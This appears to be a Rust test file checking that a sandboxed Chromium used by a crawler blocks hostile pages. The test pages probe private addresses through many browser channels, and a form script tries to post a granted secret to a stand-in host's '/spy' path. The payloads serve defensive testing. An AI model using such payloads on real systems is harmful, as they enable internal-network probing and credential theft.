//! Attacks by pages in a real Chromium. Here and not in tests/, since only here a host name can be made public.

use std::collections::{BTreeMap, HashMap};
use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UdpSocket;

use super::*;
use crate::guard::Guard;
use crate::model::{AddressGrants, Failure, GrantedSecret, Origin, Script};
use crate::robot::cookies::CookieJar;
use crate::robot::request::RequestBody;
use crate::robot::tests::server::Server;
use crate::robot::tests::{PRIVATE, new_session};

/// Far more than any of these needs, so that a busy machine fails none.
const PLENTY: Duration = Duration::from_secs(90);

/// A server with a response for each path. `{here}` in a response is the server's own port. A path without response is
/// never answered.
async fn serve(answers: &[(&str, String)]) -> Server {
    let answers: HashMap<String, String> = answers.iter().map(|(path, it)| ((*path).to_owned(), it.clone())).collect();
    let answers = Arc::new(answers);
    Server::serve(PRIVATE, move |mut stream, heard| {
        let answers = Arc::clone(&answers);
        async move {
            let request = read_request(&mut stream).await;
            let path = request.split([' ', '?']).nth(1).unwrap_or_default().to_owned();
            heard.lock().expect("nobody panicked").push(request);
            let here = stream.local_addr().expect("it is connected").port().to_string();
            match answers.get(&path) {
                Some(answer) => drop(stream.write_all(answer.replace("{here}", &here).as_bytes()).await),
                None => std::future::pending().await,
            }
        }
    })
    .await
}

fn heard(server: &Server, part: &str) -> bool {
    server.heard().iter().any(|it| it.contains(part))
}

async fn read_request(stream: &mut tokio::net::TcpStream) -> String {
    let (mut request, mut piece) = (Vec::new(), [0; 16 << 10]);
    loop {
        let read = stream.read(&mut piece).await.unwrap_or(0);
        request.extend_from_slice(&piece[..read]);
        let text = String::from_utf8_lossy(&request).into_owned();
        let length =
            text.to_lowercase().split("content-length: ").nth(1).and_then(|it| it.split("\r\n").next()?.parse().ok());
        let body = text.split_once("\r\n\r\n").map(|(_, body)| body.len());
        if read == 0 || body.is_some_and(|body| body >= length.unwrap_or(0)) {
            return text;
        }
    }
}

fn answer(head: &str, body: &str) -> String {
    format!("HTTP/1.1 {head}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
}

fn html(body: &str) -> String {
    // Without the length, so that `{here}` may be replaced in it.
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n\
         <!DOCTYPE html><title>x</title><body>{body}"
    )
}

fn redirect_to(location: &str) -> String {
    answer(&format!("302 Found\r\nLocation: {location}"), "")
}

/// A browser for a task, to which `public.test` and `cdn.test` are public, and its session.
async fn browser(task: &str, server: &Server, jar: CookieJar, time: Duration) -> (Browser, Session) {
    browser_with_grants(task, &[], server, jar, time).await
}

async fn browser_with_grants(
    task: &str,
    granted: &[String],
    server: &Server,
    jar: CookieJar,
    time: Duration,
) -> (Browser, Session) {
    let task: Task =
        toml::from_str(&format!("fetch.engine = 'browser'\nfetch.delay = '0s'\nfetch.robots_txt = false\n{task}"))
            .expect("a task of the test");
    let granted = granted.iter().map(|text| text.parse().expect("a grant of the test")).collect();
    let grants = AddressGrants { granted, ..AddressGrants::default() };
    let guard = Guard::new(&task, &Script::default(), &grants);
    for host in ["public.test", "cdn.test"] {
        guard.test_overrides.route_host_to(host, server.address);
    }
    let origins = vec![Origin::parse(server.url("public.test", "/").as_str()).expect("an origin")];
    let secret = GrantedSecret { value: "hush-hush-7".to_owned(), origins };
    let secrets = BTreeMap::from([("key".to_owned(), secret)]);
    let mut session = new_session(&task, &secrets, guard, jar, time);
    let launched = LaunchedBrowser::launch(BrowserPaths::default());
    let browser = Browser::start(&launched, &task, &mut session).await.expect("Chromium is installed");
    (browser, session)
}

const PUBLIC: &str = "url = 'http://public.test/'\n";

/// Opens a path of the server as `public.test`.
async fn go(browser: &mut Browser, session: &mut Session, server: &Server, path: &str) -> Result<Page, SessionError> {
    browser.go(session, PageRequest::get(server.url("public.test", path))).await
}

fn body(page: &Page) -> String {
    String::from_utf8_lossy(&page.body).into_owned()
}

/// A page that tries every way to reach the host, over `tcp` and `udp`.
fn attempts(host: &str, tcp: u16, udp: u16) -> String {
    format!(
        "<h1>here</h1><iframe src='http://{host}:{tcp}/frame'></iframe><img src='http://{host}:{tcp}/img'>\
         <script src='http://{host}:{tcp}/script'></script><link rel=stylesheet href='http://{host}:{tcp}/css'>\
         <link rel=preconnect href='http://{host}:{tcp}'><link rel=dns-prefetch href='http://{host}:{tcp}'>\
         <object data='http://{host}:{tcp}/object'></object><video src='http://{host}:{tcp}/video'></video>\
         <script>fetch('http://{host}:{tcp}/fetch', {{ mode: 'no-cors' }}).catch(() => 0);\
         navigator.sendBeacon('http://{host}:{tcp}/beacon', 'x');\
         try {{ new WebSocket('ws://{host}:{tcp}/socket') }} catch {{}}\
         try {{ new EventSource('http://{host}:{tcp}/events') }} catch {{}}\
         const code = \"fetch('http://{host}:{tcp}/worker', {{ mode: 'no-cors' }})\";\
         const work = new Worker(URL.createObjectURL(new Blob([code])));\
         const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{host}:{udp}' }}] }});\
         peer.createDataChannel('x'); peer.createOffer().then((it) => peer.setLocalDescription(it));\
         window.open('http://{host}:{tcp}/window');</script>"
    )
}

#[tokio::test]
async fn a_page_reaches_no_private_address_whatever_it_tries() {
    let canary = serve(&[]).await;
    let udp = UdpSocket::bind("127.0.0.1:0").await.expect("loopback has a free port");
    let (tcp_port, udp_port) = (canary.address.port(), udp.local_addr().expect("it is bound").port());
    let own = serve(&[
        ("/a", html(&attempts("127.0.0.1", tcp_port, udp_port))),
        ("/b", html(&attempts("localhost", tcp_port, udp_port))),
        ("/c", html(&attempts("[::ffff:127.0.0.1]", tcp_port, udp_port))),
        ("/found", redirect_to(&format!("http://127.0.0.1:{tcp_port}/"))),
        ("/script", html(&format!("<script>location = 'http://127.0.0.1:{tcp_port}/'</script>"))),
        ("/refresh", html(&format!("<meta http-equiv=refresh content='0;url=http://127.1:{tcp_port}/'>"))),
    ])
    .await;
    let hosts = "fetch.allow_hosts = ['public.test', '127.0.0.1', 'localhost', '[::ffff:7f00:1]']";
    let (mut browser, mut session) = browser(hosts, &own, CookieJar::default(), PLENTY).await;
    for path in ["/a", "/b", "/c"] {
        let page = go(&mut browser, &mut session, &own, path).await.expect("a page");
        assert!(body(&page).contains("<h1>here</h1>"), "{}", body(&page));
        assert!(!session.log.iter().any(|line| line.text.contains("still busy")), "{:?}", session.log);
    }
    for path in ["/found", "/script", "/refresh"] {
        let error = go(&mut browser, &mut session, &own, path).await.expect_err("refused");
        assert_eq!(error.cause(), Failure::Network, "{path}: {error}");
        assert!(error.to_string().contains("under [private] in config.toml"), "{path}: {error}");
    }
    let error = browser.go(&mut session, PageRequest::get(canary.url("127.0.0.1", "/"))).await.expect_err("refused");
    assert_eq!(error.cause(), Failure::Network, "{error}");
    drop(browser);
    assert_eq!(canary.heard(), Vec::<String>::new());
    assert!(udp.try_recv(&mut [0; 64]).is_err(), "and no packet came either");
}

#[tokio::test]
async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
    let canary = serve(&[]).await;
    let port = canary.address.port();
    let own = serve(&[
        ("/", html(&attempts("localhost", port, port))),
        (
            "/cdn",
            html(
                "<script src='http://cdn.test:{here}/lib.js'></script>\
                 <iframe src='http://cdn.test:{here}/frame'></iframe>",
            ),
        ),
        ("/lib.js", answer("200 OK\r\nContent-Type: text/javascript", "document.body.append('from the cdn')")),
        ("/frame", html("a frame")),
    ])
    .await;
    let granted = [format!("127.0.0.1:{}", own.address.port()), format!("localhost:{port}")];
    let (mut browser, mut session) =
        browser_with_grants("url = 'http://127.0.0.1/'", &granted, &own, CookieJar::default(), PLENTY).await;
    browser.go(&mut session, PageRequest::get(own.url("127.0.0.1", "/"))).await.expect("a page");
    let page = browser.go(&mut session, PageRequest::get(own.url("127.0.0.1", "/cdn"))).await.expect("a page");
    assert!(body(&page).contains("from the cdn"), "a script of a public host is loaded: {}", body(&page));
    drop(browser);
    assert_eq!(canary.heard(), Vec::<String>::new(), "localhost is not 127.0.0.1");
    assert!(!heard(&own, "GET /frame"), "a document of another host is not");
}

#[tokio::test]
async fn bad_pages_end_in_named_outcomes() {
    let own = serve(&[
        ("/busy", html("<script>for (;;) {}</script>")),
        ("/loop", redirect_to("/loop")),
        ("/wander", html("<script>location = '/wander?' + Math.random()</script>")),
        (
            "/nodes",
            // Few and long: four hundred thousand short ones take a busy machine longer than scripts may.
            html(
                "<script>for (let n = 0; n < 2e4; n++) \
                 document.body.append(Object.assign(document.createElement('b'), { textContent: 'x'.repeat(120) }))\
                 </script>",
            ),
        ),
        (
            "/dialogs",
            html("<script>onbeforeunload = () => 'stay'; alert(1); confirm(2); prompt(3)</script><p>after all</p>"),
        ),
        ("/file", answer("200 OK\r\nContent-Type: application/zip\r\nContent-Disposition: attachment", "PK")),
        ("/large", html(&"<p>large</p>".repeat(400_000))),
        ("/gone", answer("404 Not Found", "")),
        ("/json", answer("200 OK\r\nContent-Type: application/json", "{\"a\": [1, 2]}")),
    ])
    .await;
    let limits = format!("{PUBLIC}limits.max_page_bytes = '2M'");
    let (mut browser, mut session) = browser(&limits, &own, CookieJar::default(), PLENTY).await;
    for (path, cause, sentence) in [
        ("/loop", Failure::Http, "redirected more than"),
        ("/wander", Failure::Http, "redirected more than"),
        ("/nodes", Failure::Limit, "is larger than 2M"),
        ("/file", Failure::Http, "to be downloaded"),
        ("/large", Failure::Limit, "is larger than 2M"),
    ] {
        let error = go(&mut browser, &mut session, &own, path).await.expect_err(path);
        assert_eq!(error.cause(), cause, "{path}: {error}");
        assert!(error.to_string().contains(sentence), "{path}: {error}");
    }
    let page = go(&mut browser, &mut session, &own, "/dialogs").await.expect("a page");
    assert!(body(&page).contains("after all"));
    let page = go(&mut browser, &mut session, &own, "/gone").await.expect("a page");
    assert_eq!(page.meta.status, 404);
    let page = go(&mut browser, &mut session, &own, "/json").await.expect("a page");
    assert_eq!(body(&page), "{\"a\": [1, 2]}", "as it came");
    let busy = go(&mut browser, &mut session, &own, "/busy").await.expect_err("busy");
    assert_eq!(busy.cause(), Failure::Timeout, "{busy}");
    drop(browser);
}

#[tokio::test]
async fn a_page_that_never_comes_ends_with_the_runs_time() {
    let own = serve(&[]).await;
    let (mut browser, mut session) = browser(PUBLIC, &own, CookieJar::default(), Duration::from_secs(8)).await;
    let error = go(&mut browser, &mut session, &own, "/never").await.expect_err("it never comes");
    assert_eq!(error.cause(), Failure::Timeout, "{error}");
    drop(browser);
}

#[tokio::test]
async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
    let form = "<form id=f method=post action=/form><input name=user>\
        <select name=town><option>Truro<option>Halifax</select></form>\
        <script>f.onsubmit = async (it) => { it.preventDefault(); \
        await fetch('/sent', { method: 'POST', body: new FormData(f).get('user') });\
        fetch('http://cdn.test:{here}/spy', { method: 'POST', body: new FormData(f).get('user') }).catch(() => 0); \
        document.body.append('done') }</script>";
    let own = serve(&[
        (
            "/set",
            answer(
                "200 OK\r\nContent-Type: text/html\r\nSet-Cookie: sid=2; Path=/; HttpOnly",
                "<script>document.cookie = 'js=3'</script>",
            ),
        ),
        ("/post", redirect_to("http://cdn.test:{here}/elsewhere")),
        ("/elsewhere", html("elsewhere")),
        ("/form", html(form)),
        ("/sent", answer("200 OK", "")),
        ("/spy", answer("200 OK\r\nAccess-Control-Allow-Origin: *", "")),
    ])
    .await;
    let mut jar = CookieJar::default();
    jar.store("old=1; Path=/", &own.url("public.test", "/"));
    let task = "fetch.allow_hosts = ['public.test']";
    let (mut chrome, mut session) = browser(task, &own, jar, PLENTY).await;
    go(&mut chrome, &mut session, &own, "/set").await.expect("a page");
    assert!(heard(&own, "Cookie: old=1"), "{:?}", own.heard());
    let cookies = session.jar.header(&own.url("public.test", "/"));
    assert_eq!(cookies.as_deref(), Some("js=3; old=1; sid=2"), "what the browser has goes back into the jar");

    let mut post = PageRequest { post: true, ..PageRequest::get(own.url("public.test", "/post")) };
    post.headers.push(("X-Api-Key".to_owned(), "for public.test".to_owned()));
    post.body = Some(RequestBody { content_type: "application/json".to_owned(), bytes: b"{\"a\":1}".to_vec() });
    let error = chrome.go(&mut session, post).await.expect_err("another host");
    assert!(error.to_string().contains("cdn.test"), "{error}");
    for part in ["POST /post", "for public.test", "application/json", "{\"a\":1}"] {
        assert!(heard(&own, part), "{part}");
    }
    assert!(!heard(&own, "/elsewhere") && !heard(&own, "favicon"), "{:?}", own.heard());

    let page = go(&mut chrome, &mut session, &own, "/form").await.expect("a page");
    let tree = crate::page::Tree::parse(&body(&page));
    let values =
        [("user", "hush-hush-7"), ("town", "Halifax")].map(|(name, value)| (name.to_owned(), value.to_owned()));
    let form = &crate::page::form::find_all(&tree)[0];
    let filling =
        BrowserInput::new(form, &tree, &values.into(), crate::page::form::SubmitButton::First).expect("its fields");
    let request = PageRequest { browser_input: Some(filling), ..PageRequest::get(page.meta.url.clone()) };
    let page = chrome.go(&mut session, request).await.expect("the page's script sends it");
    assert!(body(&page).contains("done"), "{}", body(&page));
    assert!(heard(&own, "hush-hush-7"));
    assert!(!heard(&own, "POST /spy"), "a secret goes to no other host");
    drop(chrome);
}
